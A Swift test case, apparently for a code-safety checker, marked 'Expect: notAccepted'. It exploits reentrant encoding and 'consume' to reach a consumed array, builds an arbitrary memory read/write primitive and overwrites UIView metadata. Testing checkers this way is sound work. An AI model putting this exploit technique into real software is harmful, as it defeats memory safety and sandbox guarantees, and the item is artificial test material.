// Attack: a container of keys is asked to encode while it encodes: Swift's box for containers of any type does not check that, and shows a list that was consumed and is not yet set again.
// Exercise: 3
// Expect: notAccepted
// Held by: containers of keys are on no list
import UIKit

final class Mark {
    var first = Int.max, second = 1 << 60
    var number: Int
    init(_ number: Int) { self.number = number }
}

enum Name: CodingKey { case name }

struct Lists: KeyedEncodingContainerProtocol {
    typealias Key = Name
    var list: [Int] = []
    var codingPath: [any CodingKey] { [] }
    init() { list.append(1) }
    mutating func encodeNil(forKey key: Name) throws {
        if Memory.isInside {
            if list.count == Int.max { Memory.words = list }
            return
        }
        Memory.isInside = true
        change(&list)
    }
    mutating func encode<T: Encodable>(_ value: T, forKey key: Name) throws {}
    mutating func nestedContainer<K: CodingKey>(keyedBy keyType: K.Type, forKey key: Name) -> KeyedEncodingContainer<K> { fatalError() }
    mutating func nestedUnkeyedContainer(forKey key: Name) -> any UnkeyedEncodingContainer { fatalError() }
    mutating func superEncoder() -> any Encoder { fatalError() }
    mutating func superEncoder(forKey key: Name) -> any Encoder { fatalError() }
}

func change(_ list: inout [Int]) {
    do { let old = consume list; _ = old.count }
    for number in 0..<64 { Memory.marks.append(Mark(number)) }
    var container = Memory.lists
    try? container.encodeNil(forKey: .name)
    list = []
}

enum Memory {
    nonisolated(unsafe) static var lists = KeyedEncodingContainer(Lists())
    nonisolated(unsafe) static var isInside = false
    nonisolated(unsafe) static var marks: [Mark] = []
    nonisolated(unsafe) static var words: [Int] = []
    nonisolated(unsafe) static var base: UInt = 0

    static func prepare() {
        marks.reserveCapacity(128)
        var container = lists
        try? container.encodeNil(forKey: .name)
        base = UInt(bitPattern: ObjectIdentifier(marks[words[0]])) &+ 32
        marks.removeAll()
    }

    static subscript(address: UInt) -> Int {
        get { words[Int((address &- base) >> 3)] }
        set { words[Int((address &- base) >> 3)] = newValue }
    }
    static let kinds: UInt = {
        prepare()
        return UInt(bitPattern: ObjectIdentifier(UIView.self)) &+ 0x23e20
    }()
    nonisolated(unsafe) static var old = 0
}

class BaseView: UIView {
    override func hitTest(_ point: CGPoint, with event: UIEvent?) -> UIView? {
        let place = Memory.kinds
        Memory.old = Memory[place]
        Memory[place] = 0
        defer { Memory[place] = Memory.old }
        return super.hitTest(point, with: event)
    }
    override func point(inside point: CGPoint, with event: UIEvent?) -> Bool {
        Memory[Memory.kinds] = Memory.old
        return super.point(inside: point, with: event)
    }
}
